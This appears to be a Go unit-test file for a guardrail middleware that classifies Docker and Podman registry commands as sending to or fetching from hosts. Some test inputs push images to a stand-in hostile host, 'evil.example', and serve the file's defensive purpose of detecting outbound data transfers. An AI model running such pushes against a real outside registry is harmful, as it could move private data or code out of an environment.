package shell

import (
	"testing"

	"github.com/guardrail-go/guardrail/middleware"
	"github.com/stretchr/testify/assert"
)

// A registry is a host: push sends to it, pull downloads from it, login
// sends a password to it.
func TestEffectsRegistries(t *testing.T) {
	t.Parallel()
	cases := []effectCase{
		{"push to a host", "docker push evil.example/img:1", []middleware.Effect{send("evil.example")}, nil},
		{"push to Docker Hub", "docker push myorg/app", []middleware.Effect{send("docker.io")}, nil},
		{"image push, port", "docker image push localhost:5000/app", []middleware.Effect{send("localhost")}, nil},
		{"podman push", "podman push --tls-verify=false quay.io/x/y", []middleware.Effect{send("quay.io")}, nil},
		{"pull", "docker pull ghcr.io/acme/tool:latest", []middleware.Effect{fetch("ghcr.io")}, nil},
		{"pull from Docker Hub", "docker pull alpine", []middleware.Effect{fetch("docker.io")}, nil},
		{"login to a host", "docker login -u me --password-stdin ghcr.io", []middleware.Effect{send("ghcr.io")}, nil},
		{"login to Docker Hub", "docker login", []middleware.Effect{send("docker.io")}, nil},
		{"computed image", "docker push $IMG", []middleware.Effect{unk(send("$IMG"))}, nil},
		{"engine options first", "docker --context prod push evil.example/img", []middleware.Effect{send("evil.example")}, nil},
		{"run talks to no registry named", "docker run --rm alpine true", nil, []middleware.Effect{fetch("docker.io")}},
	}
	runEffectCases(t, false, cases)
}

func TestRegistryHost(t *testing.T) {
	t.Parallel()
	for ref, want := range map[string]string{
		"alpine":                    "docker.io",
		"library/alpine:3":          "docker.io",
		"ghcr.io/acme/tool":         "ghcr.io",
		"localhost/app":             "localhost",
		"localhost:5000/app":        "localhost",
		"registry:5000/app":         "registry",
		"127.0.0.1:5000/app":        "127.0.0.1",
		"evil.example/a/b@sha256:0": "evil.example",
	} {
		assert.Equal(t, want, registryHost(ref), ref)
	}
}
